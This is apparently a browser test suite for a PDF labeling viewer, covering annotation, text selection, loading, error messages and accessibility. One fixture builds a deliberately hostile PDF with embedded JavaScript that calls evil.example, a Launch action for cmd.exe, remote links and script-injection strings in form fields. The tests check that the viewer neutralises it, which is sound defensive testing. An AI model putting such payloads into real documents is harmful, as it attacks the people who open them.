// Documents in a real browser, under the policies of the product: `node --test test/pdf.browser.mjs` in web/.
import assert from "node:assert/strict";
import { readFileSync, writeFileSync } from "node:fs";
import { join, resolve } from "node:path";
import { after, before, test } from "node:test";
import { build, launch, remove, serve } from "../../bench/editor/harness.mjs";
import { locked, pdf, report, words } from "./fixtures/pdf.mjs";

const axe = readFileSync(resolve(import.meta.dirname, "../node_modules/axe-core/axe.min.js"), "utf8");
const RULES = ["wcag2a", "wcag2aa", "wcag21aa", "wcag22aa"];
const CONFIG = '<View><OcrLabels name="ocr" toName="pdf"><Label value="Amount"/><Label value="Name"/></OcrLabels><Pdf name="pdf" value="$pdf"/></View>';
const FONT = 20;

let folder;
let server;
let browser;

/** Two pages: a word stands alone on each, and the first has two lines below each other. */
const LETTER = () => pdf([
  { content: words([[FONT, 100, 100, "Invoice"], [FONT, 100, 200, "Dear Ada,"], [FONT, 100, 230, "the bill is 42 EUR"]]) },
  { content: words([[FONT, 100, 400, "Total"]]) },
]);

/** Everything in a document that could do something, all at once. */
function hostile() {
  const js = "<< /S /JavaScript /JS (app.alert\\('x'\\); app.launchURL\\('https://evil.example/js'\\); this.submitForm\\('https://evil.example/form'\\)) >>";
  const uri = "<< /S /URI /URI (https://evil.example/link) >>";
  const box = "/Rect [50 600 545 800]";
  return pdf([{
    content: words([[FONT, 100, 400, "Harmless words"]]),
    more: `/AA << /O ${js} >> /Annots [
      << /Type /Annot /Subtype /Link ${box} /A ${uri} >>
      << /Type /Annot /Subtype /Link ${box} /A << /S /Launch /F (cmd.exe) >> >>
      << /Type /Annot /Subtype /Link ${box} /A << /S /GoToR /F (https://evil.example/other.pdf) /D [0 /Fit] /NewWindow true >> >>
      << /Type /Annot /Subtype /Widget /FT /Btn /T (b) ${box} /A ${js} /AA << /E ${js} /D ${js} /Fo ${js} >> >>
      << /Type /Annot /Subtype /Widget /FT /Tx /T (<img src=x onerror=alert\\(1\\)>) /V (<script>alert\\(1\\)</script>) ${box} >>
      << /Type /Annot /Subtype /FileAttachment ${box} /FS << /Type /Filespec /FS /URL /F (https://evil.example/file) >> >>
      << /Type /Annot /Subtype /Movie ${box} /Movie << /F (https://evil.example/movie) >> /A << /ShowControls true >> >>
      << /Type /Annot /Subtype /Text ${box} /Contents (<iframe src=https://evil.example>) /Open true >>
    ]`,
    resources: "/XObject << /X << /Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /F << /FS /URL /F (https://evil.example/image) >> /Length 0 >> >>",
  }], { catalog: `/OpenAction ${js} /AA << /WC ${js} >> /Names << /JavaScript << /Names [(a) ${js}] >> >> /AcroForm << /Fields [] /CO [] /XFA (<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"/>) >> /URI << /Base (https://evil.example/) >>` });
}

/** A picture as fax machines write it, all black: what decodes it is WebAssembly of our own. */
function fax() {
  const line = 8;
  const bits = `${"1".repeat(line)}000000000001000000000001`.padEnd(32, "0");
  const hex = bits.match(/.{8}/g).map((byte) => Number.parseInt(byte, 2).toString(16).padStart(2, "0")).join("");
  return pdf([{ content: "q 300 0 0 300 100 300 cm /I Do Q", resources: "/XObject << /I 8 0 R >>" }], {
    objects: () => [`<< /Type /XObject /Subtype /Image /Width 8 /Height ${line} /ColorSpace /DeviceGray /BitsPerComponent 1 /Filter [/ASCIIHexDecode /CCITTFaxDecode] /DecodeParms [null << /K -1 /Columns 8 /Rows ${line} /BlackIs1 true >>] /Length ${hex.length + 1} >>\nstream\n${hex}>\nendstream`],
  });
}

before(async () => {
  folder = await build();
  server = await serve(folder, { policies: true });
  browser = await launch();
  const put = (name, bytes) => writeFileSync(join(folder, name), bytes);
  put("letter.pdf", LETTER());
  put("report.pdf", report(300));
  put("hostile.pdf", hostile());
  put("fax.pdf", fax());
  put("locked.pdf", locked("heron", "Behind the door"));
  put("scan.pdf", pdf([{ content: "0.5 g 100 100 300 300 re f" }]));
  put("empty.pdf", "");
  put("page.pdf", "<!doctype html><title>Sign in</title>");
  put("picture.pdf", Buffer.from("89504e470d0a1a0a0000000d49484452", "hex"));
  put("text.pdf", "This is no document.");
  put("garbage.pdf", `%PDF-1.7\n${"x".repeat(300)}`);
  put("cut.pdf", report(3).subarray(0, 2000));
  put("many.pdf", pdf([{ content: words([[FONT, 100, 400, "Only one"]]) }], { count: 1_000_000_000 }));
  put("large.pdf", pdf([{ content: words([[900, 100, 9000, "Large"]], { height: 14_400 }), width: 14_400, height: 14_400, more: "/UserUnit 75" }]));
  put("none.pdf", pdf([]));
  put("nowhere.pdf", pdf([{ content: words([[FONT, 100, 100, "First"]]) }], { cross: (table) => table.replace(/startxref\n\d+/, "startxref\n999999") }));
});

after(async () => {
  await browser?.close();
  await server?.close();
  if (folder !== undefined) remove(folder);
});

async function open(t, { file = "/letter.pdf", result = [], config = CONFIG, width = 1440, height = 900, theme = "light", touch = false, lang = "en", wait = "[data-painted]", answer } = {}) {
  const context = await browser.newContext({ viewport: { width, height }, hasTouch: touch });
  t.after(() => context.close());
  const page = await context.newPage();
  const [troubles, asked] = [[], []];
  await context.route("**/*", async (route) => {
    const url = route.request().url();
    if (!url.startsWith(server.url) && url.startsWith("http")) troubles.push(`asked ${url}`);
    if (url.endsWith(file)) asked.push(route.request().headers()["range"] ?? "all");
    return answer !== undefined && url.endsWith(file) ? answer(route) : route.continue();
  });
  page.on("pageerror", (error) => troubles.push(error.message));
  page.on("console", (message) => {
    if (message.type() === "error" && !message.text().startsWith("Failed to load resource")) troubles.push(message.text());
  });
  page.on("dialog", (dialog) => { troubles.push(`dialog ${dialog.message()}`); void dialog.dismiss(); });
  page.on("popup", () => troubles.push("popup"));
  t.after(() => assert.deepEqual(troubles, []));
  await page.addInitScript(([text, language]) => {
    sessionStorage.setItem("bench", text);
    document.addEventListener("DOMContentLoaded", () => (document.documentElement.lang = language));
    document.addEventListener("securitypolicyviolation", (event) => console.error(`policy: ${event.violatedDirective} ${event.blockedURI}`));
  }, [JSON.stringify({ config, data: { pdf: file }, result }), lang]);
  await page.goto(`${server.url}/test/bench.html?case=stored&theme=${theme}`);
  await page.waitForSelector(wait);
  return Object.assign(page, { asked });
}

async function result(page) {
  const count = await page.evaluate(() => window.submitted.length);
  await page.getByRole("button", { name: /^(Update|Submit)/ }).click();
  await page.waitForFunction((known) => window.submitted.length > known, count);
  return page.evaluate(() => window.submitted.at(-1));
}

/** Places on the screen by parts of the page, found by where the canvas draws it. */
async function places(page) {
  const frame = await page.evaluate(() => window.pageBox());
  return (x, y) => [frame.left + x * frame.width, frame.top + y * frame.height];
}

/** The page is white on a grey place: its edges are found in the picture itself. */
async function withBox(page) {
  await page.evaluate(() => {
    window.pageBox = () => {
      const canvas = document.querySelector(".lki-canvas:not(.lki-live)");
      const [context, box] = [canvas.getContext("2d"), canvas.getBoundingClientRect()];
      const ratio = canvas.width / box.width;
      const { data } = context.getImageData(0, 0, canvas.width, canvas.height);
      const inside = (x, y) => data[(y * canvas.width + x) * 4 + 3] > 250;
      const middle = [Math.floor(canvas.width / 2), Math.floor(canvas.height / 2)];
      let [left, right, top, bottom] = [middle[0], middle[0], middle[1], middle[1]];
      while (left > 0 && inside(left - 1, middle[1])) left -= 1;
      while (right < canvas.width - 1 && inside(right + 1, middle[1])) right += 1;
      while (top > 0 && inside(middle[0], top - 1)) top -= 1;
      while (bottom < canvas.height - 1 && inside(middle[0], bottom + 1)) bottom += 1;
      return { left: box.left + left / ratio, top: box.top + top / ratio, width: (right + 1 - left) / ratio, height: (bottom + 1 - top) / ratio };
    };
  });
  await page.locator(".lki-tools").getByRole("button", { name: "Fit into the window" }).click();
  await page.waitForFunction(() => { const box = window.pageBox(); return Math.abs(box.height / box.width - 842 / 595) < 0.02; });
}

async function drag(page, from, to) {
  await page.mouse.move(...from);
  await page.mouse.down();
  await page.mouse.move((from[0] + to[0]) / 2, (from[1] + to[1]) / 2, { steps: 3 });
  await page.mouse.move(...to, { steps: 3 });
  await page.mouse.up();
}

const painted = (page, number) => page.waitForFunction((wanted) => document.querySelector(".lki-live")?.dataset.painted === String(wanted), number);
const round = (value) => Number(value.toFixed(2));

async function assertAccessible(page) {
  await page.evaluate(axe);
  const found = await page.evaluate((rules) => window.axe.run(document, { runOnly: rules }), RULES);
  assert.deepEqual(found.violations.map((item) => `${item.id}: ${item.nodes.map((node) => node.html).join(" ")}`), []);
}

test("a box is written in parts of its page, with the page and the words under it", async (t) => {
  const page = await open(t);
  await withBox(page);
  await page.locator(".lke-label").first().click();
  const at = await places(page);
  await drag(page, at(0.15, 0.21), at(0.6, 0.245));
  const [item] = await result(page);
  const { value, ...rest } = item;
  assert.deepEqual({ ...rest, id: "" }, { id: "", from_name: "ocr", to_name: "pdf", type: "ocrlabels", origin: "manual" });
  assert.deepEqual({ ...value, ...Object.fromEntries(["x", "y", "width", "height"].map((key) => [key, round(value[key])])) }, { x: 0.15, y: 0.21, width: 0.45, height: 0.04, rotation: 0, pageIndex: 1, ocrtext: "Dear Ada,", ocrlabels: ["Amount"] });
});

test("letters that are dragged over are a region with a box for each line", async (t) => {
  const page = await open(t);
  await withBox(page);
  await page.locator(".lke-label").first().click();
  await page.getByRole("button", { name: /^Select text/ }).click();
  const at = await places(page);
  await drag(page, at(0.17, 0.232), at(0.9, 0.267));
  const [{ value }] = await result(page);
  assert.equal(value.ocrtext, "Dear Ada,\nthe bill is 42 EUR");
  assert.deepEqual([value.lines.length, value.pageIndex, round(value.x), value.lines.every((line) => line.width < 0.4)], [2, 1, round(100 / 595), true]);
});

test("the keyboard alone turns pages, selects words, marks and corrects them", async (t) => {
  const page = await open(t);
  await page.locator(".lki-live").focus();
  await page.keyboard.press("PageDown");
  await painted(page, 2);
  await page.waitForFunction(() => document.activeElement?.classList.contains("lki-live"));
  await page.keyboard.press("1");
  await page.keyboard.press("Shift+T");
  await page.locator(".lki-live").focus();
  await page.keyboard.press("Home");
  await page.keyboard.press("Control+Shift+ArrowRight");
  await page.keyboard.press("Enter");
  await page.waitForSelector("[role=treeitem]");
  await page.keyboard.press("Alt+.");
  await page.getByLabel("Text in the document").fill("Total 42");
  const [{ value }] = await result(page);
  assert.deepEqual([value.ocrtext, value.pageIndex, value.ocrlabels], ["Total 42", 2, ["Amount"]]);
});

const STORED = [
  { id: "aaaaaaaaaa", from_name: "ocr", to_name: "pdf", type: "ocrlabels", origin: "manual", value: { x: 0.1, y: 0.1, width: 0.3, height: 0.05, rotation: 0, pageIndex: 1, ocrtext: "Invoice", ocrlabels: ["Name"], unknown: [1] } },
  { id: "bbbbbbbbbb", from_name: "ocr", to_name: "pdf", type: "ocrlabels", origin: "prediction", score: 0.5, value: { x: 0.5, y: 0.45, width: 0.2, height: 0.1, rotation: 12.5, pageIndex: 2, ocrtext: "Totaal", ocrlabels: ["Amount"] } },
];

test("what was stored is written back as it was, and a region on another page turns to it", async (t) => {
  const page = await open(t, { result: STORED });
  await page.getByRole("treeitem", { name: /Totaal/ }).click();
  await painted(page, 2);
  assert.deepEqual(await result(page), STORED);
});

test("a region that is moved takes the words at its new place, and only it changes", async (t) => {
  const page = await open(t, { result: STORED });
  await withBox(page);
  await page.getByRole("treeitem", { name: /Invoice/ }).click();
  await page.locator(".lki-live").focus();
  await page.keyboard.press("Shift+ArrowDown");
  const [first, second] = await result(page);
  assert.deepEqual([second, first.value.unknown, first.value.pageIndex], [STORED[1], [1], 1]);
  assert.ok(first.value.y > 0.1);
});

test("a long document is read in parts, and a search finds the one page", async (t) => {
  const page = await open(t, { file: "/report.pdf" });
  const size = readFileSync(join(folder, "report.pdf")).length;
  const bytes = page.asked.map((range) => /^bytes=(\d+)-(\d+)$/.exec(range)).reduce((sum, found) => sum + (found === null ? size : Number(found[2]) - Number(found[1]) + 1), 0);
  assert.ok(bytes < size / 2, `${bytes} of ${size}`);
  await page.locator(".lki-live").focus();
  await page.keyboard.press("Control+f");
  await page.keyboard.type("HERON stands");
  await painted(page, 123);
  await page.waitForFunction(() => document.querySelector(".lkp-found")?.textContent === "1 of 1 found");
  assert.equal(await page.getByLabel("Page", { exact: true }).inputValue(), "123");
  assert.match(await page.getByRole("region", { name: "Text of page 123" }).textContent(), /The word heron stands on this page alone/);
  await page.getByLabel("Page", { exact: true }).fill("300");
  await page.keyboard.press("Enter");
  await painted(page, 300);
  assert.ok(await page.locator(".lkp-thumb").count() < 30, "only the pages in sight have pictures");
});

test("the wheel moves the page, and turns it at its edge", async (t) => {
  const page = await open(t);
  await page.locator(".lki-tools").getByRole("button", { name: "Fit into the window" }).click();
  await page.locator(".lki-live").hover();
  await page.mouse.wheel(0, 120);
  await painted(page, 2);
});

test("what a document brings along does nothing", async (t) => {
  const page = await open(t, { file: "/hostile.pdf" });
  const { width, height } = page.viewportSize();
  await page.mouse.click(width / 2, height / 3);
  await page.mouse.click(width / 2, height / 2);
  assert.equal(await page.locator(".lki-stage :is(a, iframe, form, input, script, embed, object, video)").count(), 0);
  assert.match(await page.getByRole("region", { name: "Text of page 1" }).textContent(), /Harmless words/);
});

const darkness = (page) => page.evaluate(() => {
  const canvas = document.querySelector(".lki-canvas:not(.lki-live)");
  const { data } = canvas.getContext("2d").getImageData(0, 0, canvas.width, canvas.height);
  let dark = 0;
  for (let at = 0; at < data.length; at += 4) if (data[at + 3] > 250 && data[at] < 60) dark += 1;
  return dark;
});

test("fonts that are not in the document and pictures of fax machines are drawn by what our own server has", async (t) => {
  const page = await open(t);
  await page.waitForFunction(() => performance.getEntriesByType("resource").some(({ name }) => /assets\/(?:Liberation|Foxit)/.test(name)));
  assert.ok(await darkness(page) > 100, "the words are drawn");
  const picture = await open(t, { file: "/fax.pdf" });
  await picture.waitForFunction(() => performance.getEntriesByType("resource").some(({ name }) => /assets\/jbig2/.test(name)));
  assert.ok(await darkness(picture) > 10_000, "the picture is drawn");
});

const refused = async (t, file, more = {}) => (await open(t, { file, wait: ".lki-problem", ...more })).locator(".lki-problem").textContent();

test("each bad file says what is wrong and what to do", async (t) => {
  const said = async (file, more) => (await refused(t, file, more)).replace("The document cannot be shown", "").replace(/\/\w+\.pdfLoad again$/, "");
  assert.equal(await said("/empty.pdf"), "The file is empty.");
  assert.equal(await said("/page.pdf"), "The file is not a PDF but a web page. Check the address in the task's data.");
  assert.equal(await said("/picture.pdf"), "The file is not a PDF but a picture. A manager shows it with Image in the labeling config.");
  assert.equal(await said("/text.pdf"), "The file is not a PDF. Check the address in the task's data.");
  assert.match(await said("/garbage.pdf"), /^The file is damaged or not whole/);
  assert.match(await said("/cut.pdf"), /^The file is damaged or not whole/);
  assert.match(await said("/gone.pdf"), /^There is no document at this address any more \(404\)/);
  assert.match(await said("/letter.pdf", { answer: (route) => route.fulfill({ status: 403, body: "no" }) }), /^The document is refused \(403\)/);
  assert.match(await said("/letter.pdf", { answer: (route) => route.fulfill({ status: 503, body: "no" }) }), /^The server could not deliver the document \(status 503\)/);
});

test("the rest of the task works beside a document that cannot be shown", async (t) => {
  const config = '<View><Pdf name="pdf" value="$pdf"/><Choices name="c" toName="pdf"><Choice value="Broken"/></Choices></View>';
  const page = await open(t, { file: "/garbage.pdf", config, wait: ".lki-problem" });
  await page.getByLabel("Broken").check();
  const [{ value }] = await result(page);
  assert.deepEqual(value, { choices: ["Broken"] });
});

test("a password is asked for, refused when it is wrong, and opens the document", async (t) => {
  const page = await open(t, { file: "/locked.pdf", wait: ".lkp-password" });
  const field = page.getByLabel("Password of the document");
  await field.fill("stork");
  await page.keyboard.press("Enter");
  await page.getByText("That is not the password.").waitFor();
  await field.fill("heron");
  await page.keyboard.press("Enter");
  await page.waitForSelector("[data-painted]");
  assert.match(await page.getByRole("region", { name: "Text of page 1" }).textContent(), /Behind the door/);
});

test("lies about the number of pages, huge pages and a lost table of contents do no harm", async (t) => {
  const many = await open(t, { file: "/many.pdf" });
  assert.ok(await many.locator(".lkp-thumb").count() < 30);
  const large = await open(t, { file: "/large.pdf" });
  const pixels = await large.evaluate(() => [...document.querySelectorAll("canvas")].reduce((most, canvas) => Math.max(most, canvas.width * canvas.height), 0));
  assert.ok(pixels < 20_000_000, String(pixels));
  const nowhere = await open(t, { file: "/nowhere.pdf" });
  assert.match(await nowhere.getByRole("region", { name: "Text of page 1" }).textContent(), /First/);
});

test("a scan has no text: it says so, and boxes are drawn all the same", async (t) => {
  const page = await open(t, { file: "/scan.pdf" });
  assert.match(await page.getByRole("region", { name: "Text of page 1" }).textContent(), /This page has no text/);
  await page.locator(".lke-label").first().click();
  await page.locator(".lki-live").focus();
  await page.keyboard.press("Shift+Enter");
  const [{ value }] = await result(page);
  assert.deepEqual([value.ocrtext, value.pageIndex], ["", 1]);
  await page.getByRole("button", { name: /^Select text/ }).click();
  await page.locator(".lki-live").click();
  await page.getByText("This page has no text that could be selected. Draw a box instead.").waitFor({ state: "attached" });
});

test("selected text is copied, also where nothing may be marked", async (t) => {
  const config = '<View><Pdf name="pdf" value="$pdf"/><Choices name="c" toName="pdf"><Choice value="A"/></Choices></View>';
  const page = await open(t, { config });
  await page.context().grantPermissions(["clipboard-read", "clipboard-write"]);
  await page.getByRole("button", { name: /^Select text/ }).click();
  await page.locator(".lki-live").focus();
  await page.keyboard.press("Home");
  await page.keyboard.press("Shift+End");
  await page.keyboard.press("Control+c");
  await page.getByText("The text is in the clipboard.").waitFor({ state: "attached" });
  assert.equal(await page.evaluate(() => navigator.clipboard.readText()), "Invoice");
});

test("fingers turn pages and draw, on a phone's width", async (t) => {
  const page = await open(t, { width: 360, height: 740, touch: true });
  assert.equal(await page.evaluate(() => document.documentElement.scrollWidth), 360);
  await page.getByRole("button", { name: "Next page" }).tap();
  await painted(page, 2);
  await page.locator(".lke-label").first().tap();
  const box = await page.locator(".lki-live").boundingBox();
  await page.touchscreen.tap(box.x + box.width * 0.3, box.y + box.height * 0.3);
  await page.touchscreen.tap(box.x + box.width * 0.7, box.y + box.height * 0.6);
  const [{ value }] = await result(page);
  assert.equal(value.pageIndex, 2);
});

for (const [theme, width, lang] of [["light", 1280, "en"], ["dark", 1280, "de"], ["dark", 360, "en"], ["light", 360, "de"]]) {
  test(`accessible in ${theme}, ${width} px wide, in ${lang}`, async (t) => {
    const page = await open(t, { theme, width, lang, result: STORED });
    await page.getByRole("button", { name: lang === "de" ? "Alle Seiten zeigen" : "Show all pages" }).click();
    await assertAccessible(page);
  });
}
